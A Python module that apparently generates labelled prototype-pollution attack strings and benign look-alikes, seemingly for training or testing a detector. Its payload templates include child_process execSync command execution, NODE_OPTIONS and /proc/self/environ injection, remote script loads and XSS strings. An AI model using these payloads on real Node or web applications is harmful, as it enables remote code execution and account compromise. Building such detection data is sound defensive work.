"""Prototype pollution: __proto__ and constructor.prototype as JSON keys, bracketed and dotted parameter names."""

import json
import urllib.parse

import inject

from . import grammar, lexicon, places

ROOTS = (("__proto__",), ("__proto__",), ("__proto__",), ("constructor", "prototype"), ("constructor", "prototype"), ("__proto__", "__proto__"), ("constructor", "constructor", "prototype"), ("prototype", "__proto__"), ("constructor", "__proto__"))
DISGUISED = (("__pro__proto__to__",), ("__proto____proto__",), ("__PROTO__", "__proto__"), ("constconstructorructor", "prototype"), ("\u005f_proto__",), ("__proto__ ", "__proto__"),
             ("__pro\u200bto__", "__proto__"), ("Object", "prototype"), ("Array", "prototype"), ("Object", "constructor", "prototype"), ("__proto__", "constructor", "prototype"), ("constructor", "prototype", "__proto__"), ("0", "__proto__"), ("length", "__proto__"), ("toString", "constructor", "prototype"), ("__proto__.__proto__",), ("constructor.prototype",), ("__proto__.constructor", "prototype"), ("___proto__", "__proto__"), ("__proto__[]", "__proto__"), ("[__proto__]",), ("\x5f_proto__", "__proto__"), ("this", "constructor", "prototype"), ("$", "__proto__"), ("a[__proto__]",), ("prototype", "constructor", "prototype"))
PROPERTIES = ("isAdmin", "admin", "role", "polluted", "toString", "shell", "NODE_OPTIONS", "env", "argv0", "sourceURL", "innerHTML", "srcdoc", "src", "onerror", "hitCallback", "transport_url", "script", "template", "outputFunctionName", "escapeFunction", "client", "block", "type", "line", "body", "status", "exec", "allowedTags", "url", "baseURL", "sandbox", "length", "json spaces", "content-type", "exposedHeaders", "whiteList", "layout", "execPath", "input", "context", "self", "compileDebug", "debug", "hasOwnProperty", "valueOf", "authenticated", "permissions",
              "main", "NODE_DEBUG", "uid", "gid", "cwd", "stdio", "windowsHide", "parser", "parameterLimit", "statusCode", "headers", "method", "proxy", "agent", "maxRedirects", "socketPath", "params", "data", "timeout", "transformRequest", "validateStatus", "variable", "imports", "settings", "view options", "views", "cache", "helpers", "blockParams", "defer", "pretty", "filename", "globals", "doctypes", "attrs", "text", "html", "title", "onload", "class", "style", "href", "nonce", "events", "preventDefault", "jquery", "props", "children",
              "is_admin", "superuser", "verified", "price", "balance", "token", "userId", "test", "x", "foo", "vulnerable", "evil", "__defineGetter__", "toJSON", "then", "constructor", "get", "set", "value", "writable", "Symbol.iterator", "cors", "strictSSL", "rejectUnauthorized", "hostname", "port", "path", "query", "where", "raw", "select", "limit", "order", "email", "to", "attachments", "ssr", "rules", "schema", "default", "enum", "log", "logger", "extensions", "ext", "delimiter", "open", "close", "async", "destructuredLocals", "localsName", "strict", "rmWhitespace")
PLAIN = (("prototype",), ("constructor",), ("proto",), ("_proto",), ("protocol",), ("filter",), ("user", "constructor"), ("car", "constructor"), ("design", "prototype"), ("product", "prototype"), ("team", "constructor", "name"),
         ("__meta__",), ("__typename",), ("__v",), ("__init__",), ("__data__",), ("__state__",), ("_prototype",), ("prototypes",), ("constructors",), ("race", "constructors"), ("proto__",), ("x-forwarded-proto",), ("__VIEWSTATE",), ("__hssc",), ("__cf_bm",), ("type", "prototype"), ("is_prototype",), ("constructor_id",), ("protoype",), ("__type__",), ("__class__",), ("__html",), ("__schema",), ("__extends__",), ("__default__",), ("__next__",), ("__dirname",), ("__version__",))


def path(attack, rng):
    root = rng.choice(DISGUISED if attack and rng.random() < 0.08 else ROOTS if attack else PLAIN)
    before = [lexicon.ident(rng) for _ in range(rng.choice((0, 0, 0, 1, 2)))]
    last = [rng.choice(PROPERTIES[:2] + PROPERTIES) if attack and rng.random() < 0.7 else lexicon.ident(rng)]
    if rng.random() < 0.1:
        last.append(lexicon.ident(rng))
    if not attack and rng.random() < 0.4:
        last = []
    return before + list(root) + last


def content(attack, rng):
    common = grammar.load("common")
    draw = rng.random()
    if draw < 0.4:
        return rng.choice((True, True, 1, "1", "true", "admin", rng.randint(2, 9999), None, [], "yes", False, 0, "", lexicon.token(rng), lexicon.token(rng), {}, [lexicon.word(rng)], {lexicon.ident(rng): lexicon.word(rng)}, "polluted" if attack else "on", rng.random() < 0.5))
    if draw < 0.6 or not attack:
        return lexicon.word(rng)
    return rng.choice((lambda: common.expand("jscall", rng), lambda: f"process.mainModule.require('child_process').execSync('{common.expand('recon', rng)}')", lambda: f"--require /proc/self/{rng.choice(('environ', 'cmdline'))}", lambda: f"data:,{common.expand('jsfncall', rng)}//",
                       lambda: f"//{lexicon.host(rng)}/{lexicon.word(rng)}.js", lambda: f"<img src=x onerror={common.expand('jsfncall', rng)}>", lambda: f"process.mainModule.require('child_process').{rng.choice(('exec', 'execSync', 'spawn'))}(`{common.expand('unixcmd0', rng)}`)", lambda: common.expand("unixcmd0", rng), lambda: common.expand("secret", rng), lambda: rng.choice(("node", "/proc/self/exe", "vim", "/bin/sh", "cmd.exe")), lambda: f"<script>{common.expand('jsfncall', rng)}</script>",
                       lambda: f"javascript:{common.expand('jsfncall', rng)}", lambda: f"https://{lexicon.hostport(rng)}/{lexicon.word(rng)}", lambda: {rng.choice(("NODE_OPTIONS", "EVIL", "AAAA", lexicon.ident(rng))): f"require('child_process').execSync('{common.expand('recon', rng)}')//"}, lambda: f"--{rng.choice(('inspect', 'eval', 'import', 'require'))}={lexicon.host(rng)}", lambda: [f"{rng.choice(('--eval', '-e'))}={common.expand('jsfncall', rng)}"],
                       lambda: f"x;{common.expand('jsfncall', rng)};//"))()


def document(keys, last):
    for key in reversed(keys):
        last = {key: last}
    return last


def parameter(attack, rng):
    """name=value with the path in brackets or dots, not yet percent-encoded."""
    keys = path(attack, rng)
    draw = rng.random()
    if draw < 0.5 and len(keys) > 1:
        return keys[0] + "".join(f"[{key}]" for key in keys[1:]), content(attack, rng)
    if draw < 0.6 and len(keys) > 1:
        quote = rng.choice("'\"")
        return keys[0] + "".join(f"[{quote}{key}{quote}]" for key in keys[1:]), content(attack, rng)
    if draw < 0.64:
        return "".join(f"[{key}]" for key in keys), content(attack, rng)
    if rng.random() < 0.3 and len(keys) > 1:  # dots and brackets mixed
        out = keys[0]
        for key in keys[1:]:
            out += rng.choice((f".{key}", f"[{key}]", f"[{key}]", f'["{key}"]', f"[]{key}" if attack else f"[{key}]", f"[0][{key}]", f"[ {key} ]"))
        return out + rng.choice(("", "", "[]", "[0]")), content(attack, rng)
    return rng.choice((".", ".", ".", "/", "->", ":") if attack else (".", ".", "_", "-")).join(keys), content(attack, rng)


def wire(name, what, rng):
    if rng.random() < 0.5:
        name = name.replace("[", "%5B").replace("]", "%5D")
    draw = rng.random()
    if draw < 0.12:
        name = name.replace("_", "%5F" if draw < 0.07 else "%5f")
    elif draw < 0.18:
        name = "".join(f"%{ord(char):02x}" if char.isalpha() and char.isascii() and rng.random() < 0.3 else char for char in name)
    elif draw < 0.22:
        name = name.replace("%5B", "%255B").replace("%5D", "%255D").replace("[", "%5b").replace("]", "%5d")
    elif draw < 0.25:
        name = name.replace(".", "%2E")
    name = "".join(char if char.isascii() else urllib.parse.quote(char) for char in name)
    name = name.replace('"', "%22").replace("'", "%27").replace(" ", "%20").replace(">", "%3E")
    return f"{name}={inject.percent(str(what).lower() if isinstance(what, bool) else str(what), rng)}"


def whole(attack, rng):
    inner = document(path(attack, rng), content(attack, rng))
    if rng.random() < 0.4:
        inner = {**places.fields(rng, 3), **inner}
    if not attack and rng.random() < 0.3:
        inner["type"] = "constructor"
    text = inject.json_text(inner, rng)
    if rng.random() < 0.14:  # the same escapes in twins
        for key in ("__proto__", "prototype", "constructor", "proto"):
            if rng.random() < 0.7:
                text = text.replace(f'"{key}"', '"' + "".join(f"\\u{ord(char):04{rng.choice('xX')}}" if rng.random() < 0.35 else char for char in key) + '"')
    draw = rng.random()
    if draw < 0.05:
        text = "[" + text + "]"
    elif draw < 0.08:
        text = json.dumps(text)
    elif draw < 0.1:
        text = text.replace('"', "'")
    return text


def value(attack, rng):
    draw = rng.random()
    if draw < 0.25:
        return whole(attack, rng)
    if draw < 0.35:
        name, what = parameter(attack, rng)
        return f"{rng.choice(('', '', '?', '#', '?', '#?', '&', f'{lexicon.word(rng)}={rng.randint(0, 99)}&', '/?', '#!'))}{name}={what}{rng.choice(('', '', f'&{lexicon.ident(rng)}={lexicon.word(rng)}'))}"
    return grammar.load("prototype").expand("attack" if attack else "twin", rng)


def put(attack, carrier, rng):
    draw = rng.random()
    if draw < 0.2:
        pairs = [wire(*parameter(attack, rng), rng) for _ in range(rng.choice((1, 1, 1, 2)))]
        if rng.random() < 0.25:
            return places.form_body(carrier, pairs, rng)
        return places.add_query(carrier, pairs, rng)
    if draw < 0.5:
        if places.has_body(carrier) and rng.random() < 0.6:
            return places.add_query(carrier, [wire(*parameter(attack, rng), rng)], rng)
        if rng.random() < 0.1:
            name, what = parameter(attack, rng)
            return places.multipart_body(carrier, places.shuffled(places.form_parts(rng) + [(f'name="{name}"'.replace('""', '"'), "", str(what))], rng), rng)
        places.give(carrier, rng.choice(("application/json", "application/json; charset=utf-8", "application/merge-patch+json")), whole(attack, rng), rng)
        return "json"
    if draw < 0.55 and not places.has_body(carrier):
        patch = [{"op": rng.choice(("add", "replace")), "path": "/" + "/".join(path(attack, rng)), "value": content(attack, rng)}]
        places.give(carrier, "application/json-patch+json", inject.json_text(patch, rng), rng, "PATCH")
        return "json"
    return ""
